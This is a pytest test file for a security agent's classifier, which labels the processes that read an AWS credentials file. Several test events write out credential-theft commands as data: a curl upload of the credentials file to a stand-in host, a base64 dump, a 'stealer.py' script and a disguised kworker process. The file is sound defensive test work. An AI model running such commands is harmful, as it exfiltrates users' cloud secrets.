"""Reader classification: default rules for every label, organisation rules first, bad rules refused."""

from __future__ import annotations

import datetime as dt

import pytest

from agent.events.classify import Classifier, RuleError, classify, load_rules, program_names
from agent.events.model import ProcessInfo, ReadEvent

PY = "/usr/bin/python3.11"


def read(exe: str | None, *argv: str, ancestors: tuple[ProcessInfo, ...] = ()) -> ReadEvent:
    return ReadEvent(
        time=dt.datetime(2026, 11, 1, tzinfo=dt.UTC),
        path="/home/alice/.aws/credentials",
        pid=4242,
        sensor="test",
        exe=exe,
        cmdline=argv,
        ancestors=ancestors,
    )


CASES = [
    # aws_tool
    (read(PY, "/usr/bin/python3", "/usr/local/bin/aws", "s3", "ls", "--profile", "prod"), "aws_tool"),
    (read("/usr/local/aws-cli/v2/2.15.0/dist/aws", "aws", "sts", "get-caller-identity"), "aws_tool"),
    (read(PY, "python3", "-m", "awscli", "configure", "list"), "aws_tool"),
    (read(PY, "python3", "-c", "import boto3; print(boto3.client('sts').get_caller_identity())"), "aws_tool"),
    (read("/usr/bin/terraform", "terraform", "plan"), "aws_tool"),
    (read("/usr/bin/aws-vault", "aws-vault", "exec", "prod", "--", "env"), "aws_tool"),
    (read("/usr/bin/node", "node", "/usr/lib/node_modules/aws-cdk/bin/cdk", "deploy"), "aws_tool"),
    (read("C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe", "aws.exe", "s3", "ls"), "aws_tool"),
    # indexer_backup_av
    (read("/usr/libexec/tracker-miner-fs-3", "/usr/libexec/tracker-miner-fs-3"), "indexer_backup_av"),
    (read("/usr/bin/baloo_file", "/usr/bin/baloo_file"), "indexer_backup_av"),
    (read("/usr/bin/updatedb.plocate", "/usr/sbin/updatedb"), "indexer_backup_av"),
    (read("/usr/bin/rsync", "rsync", "-a", "/home/", "backup:/srv/"), "indexer_backup_av"),
    (read("/usr/bin/restic", "restic", "backup", "/home"), "indexer_backup_av"),
    (read(PY, "/usr/bin/python3", "/usr/bin/borg", "create", "::x", "/home"), "indexer_backup_av"),
    (read("/usr/bin/clamscan", "clamscan", "-r", "/home"), "indexer_backup_av"),
    (read("/opt/CrowdStrike/falcon-sensor", "/opt/CrowdStrike/falcon-sensor"), "indexer_backup_av"),
    (
        read("/opt/osquery/bin/osqueryd", "osqueryd", "--flagfile", "/etc/osquery/osquery.flags"),
        "indexer_backup_av",
    ),
    (
        read(
            "/usr/bin/tar", "tar", "cf", "-", "/home", ancestors=(ProcessInfo(pid=7, exe="/usr/bin/restic"),)
        ),
        "indexer_backup_av",
    ),
    # secret_scanner
    (read("/usr/local/bin/trufflehog", "trufflehog", "filesystem", "/home/alice"), "secret_scanner"),
    (read("/usr/bin/gitleaks", "gitleaks", "detect", "--source", "."), "secret_scanner"),
    (read(PY, "/usr/bin/python3", "/usr/local/bin/detect-secrets", "scan"), "secret_scanner"),
    (
        read(PY, "/usr/bin/python3", "/home/alice/.local/bin/ggshield", "secret", "scan", "path", "-r", "."),
        "secret_scanner",
    ),
    # shell_utility
    (read("/usr/bin/cat", "cat", "/home/alice/.aws/credentials"), "shell_utility"),
    (read("/usr/bin/head", "head", "-n", "3", "credentials"), "shell_utility"),
    (read("/usr/bin/grep", "grep", "-r", "aws_secret_access_key", "/home"), "shell_utility"),
    (read("/usr/bin/base64", "base64", "-w0", ".aws/credentials"), "shell_utility"),
    (
        read("/usr/bin/curl", "curl", "-F", "f=@/home/alice/.aws/credentials", "https://x.example"),
        "shell_utility",
    ),
    (read("/bin/busybox", "cat", "credentials"), "shell_utility"),
    # editor
    (read("/usr/bin/vim.basic", "vim", "/home/alice/.aws/credentials"), "editor"),
    (read("/usr/bin/nvim", "nvim", "credentials"), "editor"),
    (read("/usr/share/code/code", "/usr/share/code/code", "--type=renderer"), "editor"),
    (read("/usr/bin/nano", "nano", "credentials"), "editor"),
    # unknown
    (read(PY, "python3", "-c", "open('/home/alice/.aws/credentials').read()"), "unknown"),
    (read("/tmp/.x/kworker", "[kworker/0:1]"), "unknown"),
    (read(PY, "python3", "/tmp/stealer.py"), "unknown"),
    (read(None), "unknown"),
]


@pytest.mark.parametrize(
    ("event", "label"), CASES, ids=[" ".join(e.cmdline)[:50] or "empty" for e, _ in CASES]
)
def test_default_rules(event, label):
    assert classify(event) == label


def test_every_default_label_is_exercised():
    assert {label for _, label in CASES} == {
        "aws_tool",
        "indexer_backup_av",
        "secret_scanner",
        "shell_utility",
        "editor",
        "unknown",
    }


def test_interpreter_programs_are_looked_through():
    assert program_names(PY, ("python3", "-u", "-W", "ignore", "/usr/bin/aws", "s3")) >= {"aws", "python3"}
    assert program_names(PY, ("python3", "-E", "/usr/bin/aws")) >= {"aws"}  # -E takes no value
    assert program_names(PY, ("python3", "-mawscli")) >= {"awscli"}
    assert program_names(PY, ("python3", "-c", "x")) == {"python3.11", "python3"}
    assert program_names("/usr/bin/bash", ("bash", "/opt/backup.sh")) >= {"backup.sh", "backup"}
    assert program_names("/usr/bin/cat (deleted)", ()) == {"cat"}


def test_organisation_rules_take_precedence():
    event = read("/usr/bin/cat", "cat", "/srv/ci/.aws/credentials")
    clf = Classifier.from_config(
        [
            {
                "name": "CI inventory",
                "label": "indexer_backup_av",
                "program": "cat",
                "cmdline_contains": "/srv/ci/",
            },
            {"label": "corp_agent", "cmdline_regex": r"corp-agent\s+--scan"},
        ]
    )
    assert clf.explain(event) == ("indexer_backup_av", "CI inventory")
    assert clf.classify(read("/usr/bin/cat", "cat", "/home/bob/.aws/credentials")) == "shell_utility"
    assert clf.classify(read("/opt/corp/agent", "corp-agent", "--scan", "/")) == "corp_agent"
    assert Classifier.from_config(None).classify(event) == "shell_utility"
    as_tuple = Classifier.from_config(({"label": "editor", "program": "cat"},))  # AgentConfig keeps a tuple
    assert as_tuple.classify(event) == "editor"


def test_ancestor_condition():
    clf = Classifier.from_config([{"label": "secret_scanner", "ancestor": ["pre-commit"], "program": "cat"}])
    hook = read(
        "/usr/bin/cat",
        "cat",
        "x",
        ancestors=(ProcessInfo(pid=2, exe=PY, cmdline=("python3", "/usr/bin/pre-commit", "run")),),
    )
    assert clf.classify(hook) == "secret_scanner"
    assert clf.classify(read("/usr/bin/cat", "cat", "x")) == "shell_utility"


@pytest.mark.parametrize(
    ("rules", "message"),
    [
        ("not a list", "must be a list of tables"),
        (["x"], "config rule #1: a rule must be a table"),
        ([{"program": "cat"}], "'label' must be a lower-case word"),
        ([{"label": "Bad Label", "program": "cat"}], "'label' must be a lower-case word"),
        ([{"label": "editor"}], "needs at least one condition"),
        ([{"label": "editor", "programme": "vim"}], "unknown key(s) ['programme']"),
        ([{"label": "editor", "program": ["vim", 3]}], "'program' must be a string or a list"),
        ([{"label": "editor", "program": ""}], "needs at least one condition"),
        ([{"label": "editor", "cmdline_regex": "(unclosed"}], "invalid cmdline_regex"),
        (
            [{"label": "editor", "name": "vims", "cmdline_regex": 5}],
            "config rule #1 (vims): 'cmdline_regex' must",
        ),
    ],
)
def test_malformed_rules_are_refused_clearly(rules, message):
    with pytest.raises(RuleError) as info:
        Classifier.from_config(rules)
    assert message in str(info.value)


def test_rule_files():
    assert load_rules('[[rule]]\nlabel = "editor"\nprogram = "ed"\n', "x.toml")[0].program == ("ed",)
    with pytest.raises(RuleError, match=r"x\.toml: not valid TOML"):
        load_rules("[[rule]\n", "x.toml")
    with pytest.raises(RuleError, match=r"x\.toml: expected \[\[rule\]\] tables"):
        load_rules('rule = "x"', "x.toml")


def test_no_rule_may_claim_the_self_test_label() -> None:
    """Only the agent labels reads self_test (from the trigger's root-only mark): a rule that could
    would excuse any reader it matched as the self-test."""
    with pytest.raises(RuleError, match="reserved for the agent's own self-test"):
        Classifier.from_config([{"name": "mine", "label": "self_test", "program": ["curl"]}])
